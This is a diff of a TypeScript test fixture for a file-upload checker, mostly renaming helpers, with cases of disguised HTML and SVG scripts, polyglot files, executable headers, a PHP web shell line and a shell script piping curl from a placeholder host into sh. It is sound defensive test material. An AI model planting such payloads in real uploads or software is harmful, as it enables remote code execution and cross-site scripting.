@@ -1,28 +1,28 @@
 /** Files whose content differs from what they claim. */
 import { createPdf, createPicture, createFileOfType, sheetEntries, wordEntries } from "../files.ts";
 import { createZip } from "../zips.ts";
-import { damaged, notOurs, sending } from "./upload.ts";
+import { damaged, refusedType, createFileCases } from "./upload.ts";
 
 const script = "<script>fetch('/api/mariage/photos')</script>";
 const page = `<!doctype html><title>x</title>${script}`;
 const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
 
-const active = sending("active content in disguise", [
-  ["a page called a text", { name: "liste.txt", bytes: page, type: "text/plain" }, notOurs],
-  ["a page called a photo", { name: "nous.png", bytes: page, type: "image/png" }, notOurs],
-  ["a page behind many spaces", { name: "liste.csv", bytes: `${" \r\n".repeat(5000)}${page}` }, notOurs],
-  ["a page in UTF-16", { name: "liste.txt", bytes: Buffer.from(`\u{feff}${page}`, "utf16le") }, notOurs],
-  ["a drawing with a script", { name: "plan.svg", bytes: drawing, type: "image/svg+xml" }, notOurs],
-  ["a drawing called a photo", { name: "plan.jpg", bytes: `<?xml version="1.0"?>${drawing}` }, notOurs],
+const active = createFileCases("active content in disguise", [
+  ["a page called a text", { name: "liste.txt", bytes: page, type: "text/plain" }, refusedType],
+  ["a page called a photo", { name: "nous.png", bytes: page, type: "image/png" }, refusedType],
+  ["a page behind many spaces", { name: "liste.csv", bytes: `${" \r\n".repeat(5000)}${page}` }, refusedType],
+  ["a page in UTF-16", { name: "liste.txt", bytes: Buffer.from(`\u{feff}${page}`, "utf16le") }, refusedType],
+  ["a drawing with a script", { name: "plan.svg", bytes: drawing, type: "image/svg+xml" }, refusedType],
+  ["a drawing called a photo", { name: "plan.jpg", bytes: `<?xml version="1.0"?>${drawing}` }, refusedType],
   [
     "a saved page with its parts",
     { name: "devis.txt", bytes: `From: <x>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${page}` },
-    notOurs,
+    refusedType,
   ],
-  ["php called a text", { name: "devis.php.txt", bytes: "<?php system($_GET['c']); ?>" }, notOurs],
+  ["php called a text", { name: "devis.php.txt", bytes: "<?php system($_GET['c']); ?>" }, refusedType],
 ]);
 
-async function pictureWith(type: "image/png" | "image/jpeg" | "image/webp", behind: string | Buffer) {
+async function createPictureWith(type: "image/png" | "image/jpeg" | "image/webp", behind: string | Buffer) {
   return Buffer.concat([await createPicture(type), Buffer.from(behind)]);
 }
 
@@ -32,14 +32,14 @@ const jar = () =>
     { name: "A.class", content: "x" },
   ]);
 
-const polyglots = sending("two files in one", [
+const polyglots = createFileCases("two files in one", [
   [
     "a gif that is a jar",
     {
       name: "nous.gif",
       bytes: async () => Buffer.concat([Buffer.from("GIF89a\x01\0\x01\0\0\0\0;"), await jar()]),
     },
-    notOurs,
+    refusedType,
   ],
   [
     "a pdf that is a page",
@@ -49,21 +49,21 @@ const polyglots = sending("two files in one", [
   [
     "a page that is a pdf",
     { name: "devis.pdf", bytes: () => Buffer.concat([Buffer.from(`${page}\n`), createPdf()]) },
-    notOurs,
+    refusedType,
   ],
   [
     "a photo that is a zip",
-    { name: "nous.jpg", bytes: async () => pictureWith("image/jpeg", await jar()) },
+    { name: "nous.jpg", bytes: async () => createPictureWith("image/jpeg", await jar()) },
     { storedType: "image/jpeg", as: "nous.jpg" },
   ],
   [
     "a photo that is a page",
-    { name: "nous.html", bytes: () => pictureWith("image/png", page) },
+    { name: "nous.html", bytes: () => createPictureWith("image/png", page) },
     { storedType: "image/png", as: "nous.html.png" },
   ],
   [
     "a photo that is a script",
-    { name: "nous.webp", bytes: () => pictureWith("image/webp", `*/=1;alert(1)//${script}`) },
+    { name: "nous.webp", bytes: () => createPictureWith("image/webp", `*/=1;alert(1)//${script}`) },
     { storedType: "image/webp", as: "nous.webp" },
   ],
   [
@@ -81,13 +81,13 @@ const polyglots = sending("two files in one", [
   ],
 ]);
 
-const programs = sending("programs", [
-  ["of Windows", { name: "devis.pdf", bytes: `MZ\x90\0\x03\0\0\0${"\0".repeat(200)}PE\0\0` }, notOurs],
-  ["of Linux", { name: "devis.txt", bytes: `\x7fELF\x02\x01\x01${"\0".repeat(60)}` }, notOurs],
-  ["of macOS", { name: "devis.png", bytes: Buffer.from("cffaedfe07000001", "hex") }, notOurs],
-  ["for Java", { name: "devis.docx", bytes: jar }, notOurs],
-  ["for a shell", { name: "devis.txt", bytes: "#!/bin/sh\ncurl http://exemple.invalid | sh\n" }, notOurs],
-  ["for a browser", { name: "plan.wasm", bytes: Buffer.from("0061736d01000000", "hex") }, notOurs],
+const programs = createFileCases("programs", [
+  ["of Windows", { name: "devis.pdf", bytes: `MZ\x90\0\x03\0\0\0${"\0".repeat(200)}PE\0\0` }, refusedType],
+  ["of Linux", { name: "devis.txt", bytes: `\x7fELF\x02\x01\x01${"\0".repeat(60)}` }, refusedType],
+  ["of macOS", { name: "devis.png", bytes: Buffer.from("cffaedfe07000001", "hex") }, refusedType],
+  ["for Java", { name: "devis.docx", bytes: jar }, refusedType],
+  ["for a shell", { name: "devis.txt", bytes: "#!/bin/sh\ncurl http://exemple.invalid | sh\n" }, refusedType],
+  ["for a browser", { name: "plan.wasm", bytes: Buffer.from("0061736d01000000", "hex") }, refusedType],
   [
     "for a browser, in words",
     { name: "plan.js", bytes: "alert(document.domain)", type: "text/javascript" },
@@ -100,7 +100,7 @@ const programs = sending("programs", [
   ],
 ]);
 
-const endings = sending("an ending that lies", [
+const endings = createFileCases("an ending that lies", [
   [
     "a photo called a pdf",
     { name: "devis.pdf", bytes: () => createPicture("image/png") },
@@ -136,7 +136,7 @@ const endings = sending("an ending that lies", [
   ],
 ]);
 
-const claims = sending("a type that lies", [
+const claims = createFileCases("a type that lies", [
   [
     "a photo said to be a page",
     { name: "nous.png", bytes: () => createPicture("image/png"), type: "text/html" },
@@ -147,7 +147,7 @@ const claims = sending("a type that lies", [
     { name: "note.txt", bytes: "Bonjour", type: "image/svg+xml" },
     { storedType: "text/plain", as: "note.txt" },
   ],
-  ["a page said to be a pdf", { name: "devis.pdf", bytes: page, type: "application/pdf" }, notOurs],
+  ["a page said to be a pdf", { name: "devis.pdf", bytes: page, type: "application/pdf" }, refusedType],
   [
     "a text said to be several things",
     { name: "note.txt", bytes: "Bonjour", type: "text/plain, text/html; charset=utf-7" },
@@ -160,4 +160,4 @@ const claims = sending("a type that lies", [
   ],
 ]);
 
-export const contents = [...active, ...polyglots, ...programs, ...endings, ...claims];
+export const contentUploads = [...active, ...polyglots, ...programs, ...endings, ...claims];
